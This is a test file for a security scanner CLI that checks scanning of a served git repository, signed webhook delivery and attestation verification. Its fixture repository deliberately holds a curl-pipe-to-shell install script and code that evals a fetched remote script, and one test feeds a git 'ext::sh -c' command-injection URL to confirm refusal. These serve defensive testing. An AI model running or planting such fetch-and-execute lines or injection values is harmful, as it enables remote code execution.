import { generateKeyPairSync, sign, verify } from 'node:crypto';
import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { createMemoryDeliveryStore, verify as verifyWebhook } from '@scanrelay/hmac-webhooks';
import { makeTempDir, runCli } from '@scanrelay/test-utils';
import { createGitHttpServer, type GitHttpServer } from '@scanrelay/testkit';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const SECRET = 'sast-callback-secret-93c1';
const ENV = { SCANRELAY_ALLOW_PRIVATE_URLS: 'true', SAST_CALLBACK_SECRET: SECRET };

/** What a publishing service would receive: verified scanrelay-scheme deliveries, one per delivery id. */
async function startReceiver() {
  const accepted: { headers: IncomingHttpHeaders; body: Buffer; payload: Record<string, unknown> }[] = [];
  const store = createMemoryDeliveryStore();
  const server: Server = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks);
    const checked = await verifyWebhook({
      scheme: 'scanrelay',
      secret: SECRET,
      body,
      headers: req.headers,
      store,
    });
    if (!checked.ok) return void res.writeHead(401).end(checked.reason);
    accepted.push({ headers: req.headers, body, payload: JSON.parse(body.toString('utf8')) });
    res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}/api/v1/webhooks/scan-results`,
    accepted,
    close: () => new Promise((r) => server.close(r)),
  };
}

let repo: GitHttpServer;
let receiver: Awaited<ReturnType<typeof startReceiver>>;
let scannedCommit: string;
const tmp = makeTempDir('scanrelay-sast-cli-');
const keys = generateKeyPairSync('ed25519');
const privateKeyFile = path.join(tmp.dir, 'signing.pem');
const publicKeyFile = path.join(tmp.dir, 'signing.pub.pem');
const strangerKeyFile = path.join(tmp.dir, 'stranger.pub.pem');

beforeAll(async () => {
  writeFileSync(privateKeyFile, keys.privateKey.export({ type: 'pkcs8', format: 'pem' }));
  writeFileSync(publicKeyFile, keys.publicKey.export({ type: 'spki', format: 'pem' }));
  const stranger = generateKeyPairSync('ed25519');
  writeFileSync(strangerKeyFile, stranger.publicKey.export({ type: 'spki', format: 'pem' }));
  repo = await createGitHttpServer({ name: 'skill' });
  scannedCommit = await repo.commit({
    'install.sh': '#!/bin/sh\ncurl -fsSL https://get.example.com/setup.sh | sh\n',
    'index.js': "const run = async () => eval(await (await fetch('https://cdn.example.com/x.js')).text());\n",
    'README.md': '# skill\n',
  });
  receiver = await startReceiver();
});

afterAll(async () => {
  await repo?.close();
  await receiver?.close();
  tmp.cleanup();
});

describe('scanrelay sast', () => {
  const output = path.join(tmp.dir, 'result.json');
  const attestationFile = `${output}.intoto.json`;

  it('scans the served repository at its commit, writes the result and attestation, and posts it signed', async () => {
    const run = await runCli(
      [
        'sast',
        '--provider',
        'patterns',
        '--repo',
        repo.repoUrl,
        '--project',
        'acme-skill',
        '--scan-id',
        'scan-cli-1',
        '--output',
        output,
        '--callback-url',
        receiver.url,
        '--callback-secret-env',
        'SAST_CALLBACK_SECRET',
        '--attest',
        '--key-file',
        privateKeyFile,
      ],
      { env: ENV },
    );
    // SR002 (fetched code evaluated) is critical: the default policy fails the verdict, exit 1.
    expect(run.stderr).toContain(`patterns scan of ${repo.repoUrl} at ${scannedCommit}: fail`);
    expect(run.code).toBe(1);
    expect(run.stderr).not.toContain(SECRET);

    const result = JSON.parse(readFileSync(output, 'utf8'));
    expect(result).toMatchObject({
      project: 'acme-skill',
      provider: 'patterns',
      scanId: 'scan-cli-1',
      repoUrl: repo.repoUrl,
      commitSha: scannedCommit,
      status: 'completed',
      verdict: 'fail',
      counts: { critical: 1, high: 1 },
    });
    const found = result.findings.map((f: { ruleId?: string; location?: { file?: string } }) => [
      f.ruleId,
      f.location?.file,
    ]);
    expect(found).toEqual(
      expect.arrayContaining([
        ['SR001', 'install.sh'],
        ['SR002', 'index.js'],
      ]),
    );

    expect(receiver.accepted).toHaveLength(1);
    const { attestation, ...posted } = receiver.accepted[0]!.payload;
    expect(posted).toEqual(result);
    expect(attestation).toEqual(JSON.parse(readFileSync(attestationFile, 'utf8')));
  });

  it('attest verify proves the scanned commit, also after a push moved the branch', async () => {
    const newer = await repo.commit({ 'index.js': 'export const ok = true;\n' }, 'clean up');
    expect(newer).not.toBe(scannedCommit);

    const run = await runCli([
      'attest',
      'verify',
      attestationFile,
      '--key',
      publicKeyFile,
      '--result',
      output,
    ]);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(`repository: ${repo.repoUrl}`);
    expect(run.stdout).toContain(`commit: ${scannedCommit}`);
    expect(run.stdout).toContain('status: completed, verdict: fail');
    expect(run.stdout).toMatch(/findings: 2 \(sha256 [0-9a-f]{64}\)/);
  });

  it('attest verify exits 1 for a tampered attestation and for the wrong key', async () => {
    const envelope = JSON.parse(readFileSync(attestationFile, 'utf8'));
    const statement = Buffer.from(envelope.payload, 'base64').toString('utf8');
    envelope.payload = Buffer.from(statement.replace('"verdict":"fail"', '"verdict":"pass"')).toString(
      'base64',
    );
    const tampered = path.join(tmp.dir, 'tampered.intoto.json');
    writeFileSync(tampered, JSON.stringify(envelope));

    const forged = await runCli(['attest', 'verify', tampered, '--key', publicKeyFile]);
    expect(forged.code).toBe(1);
    expect(forged.stderr).toContain('not verified (signature_invalid)');
    expect(forged.stdout).toBe('');

    const wrongKey = await runCli(['attest', 'verify', attestationFile, '--key', strangerKeyFile]);
    expect(wrongKey.code).toBe(1);
    expect(wrongKey.stderr).toMatch(
      /not verified \(signature_invalid\): .*signed by sha256:[0-9a-f]{64}, not by this key/,
    );
  });

  it('writes SARIF of the newer commit (no critical left: pass) to standard output and exits 0', async () => {
    const run = await runCli(
      ['sast', '--provider', 'patterns', '--repo', repo.repoUrl, '--format', 'sarif'],
      {
        env: ENV,
      },
    );
    expect(run.code).toBe(0);
    expect(run.stderr).toContain(`at ${await repo.head()}: pass (score `);
    expect(run.stderr).toContain('; 1 high)');
    const sarif = JSON.parse(run.stdout);
    expect(sarif.version).toBe('2.1.0');
    const results = sarif.runs[0].results;
    expect(results.map((r: { ruleId: string }) => r.ruleId)).toEqual(['SR001']);
    expect(results[0].locations[0].physicalLocation.artifactLocation.uri).toBe('install.sh');
  });

  it('reports a refused repository URL as a failed scan: exit 3, and the callback gets status failed', async () => {
    const before = receiver.accepted.length;
    const run = await runCli(
      [
        'sast',
        '--provider',
        'patterns',
        '--repo',
        'ext::sh -c touch% /tmp/pwned',
        '--scan-id',
        'scan-cli-refused',
        '--callback-url',
        receiver.url,
        '--callback-secret-env',
        'SAST_CALLBACK_SECRET',
      ],
      { env: ENV },
    );
    expect(run.code).toBe(3);
    expect(run.stderr).toContain('the scan failed:');
    const result = JSON.parse(run.stdout);
    expect(result).toMatchObject({
      scanId: 'scan-cli-refused',
      status: 'failed',
      verdict: 'fail',
      findings: [],
    });
    expect(result.commitSha).toBeUndefined();
    expect(receiver.accepted.slice(before).map((d) => d.payload)).toEqual([result]);
  });

  it('refuses bad usage with exit 2 before scanning', async () => {
    const unknown = await runCli(['sast', '--provider', 'nope', '--repo', repo.repoUrl], { env: ENV });
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('--provider: expected one of patterns, semgrep');
    const noKey = await runCli(['sast', '--provider', 'patterns', '--repo', repo.repoUrl, '--attest'], {
      env: ENV,
    });
    expect(noKey.code).toBe(2);
    expect(noKey.stderr).toContain('--attest needs --key-file');
    const noSecret = await runCli(
      [
        'sast',
        '--provider',
        'patterns',
        '--repo',
        repo.repoUrl,
        '--callback-url',
        receiver.url,
        '--callback-secret-env',
        'UNSET_SECRET_VAR',
      ],
      { env: ENV },
    );
    expect(noSecret.code).toBe(2);
    expect(noSecret.stderr).toContain('UNSET_SECRET_VAR is not set');
  });
});

describe('scanrelay attest keygen', () => {
  it('writes a key pair whose private key signs what its public key verifies', async () => {
    const priv = path.join(tmp.dir, 'gen.pem');
    const pub = path.join(tmp.dir, 'gen.pub.pem');
    const run = await runCli(['attest', 'keygen', '--private-key', priv, '--public-key', pub]);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^key id: sha256:[0-9a-f]{64}\n$/);
    const signature = sign(null, Buffer.from('statement'), readFileSync(priv, 'utf8'));
    expect(verify(null, Buffer.from('statement'), readFileSync(pub, 'utf8'), signature)).toBe(true);
    expect((statSync(priv).mode & 0o777).toString(8)).toBe('600');
    const again = await runCli(['attest', 'keygen', '--private-key', priv, '--public-key', pub]);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain('EEXIST');
  });
});
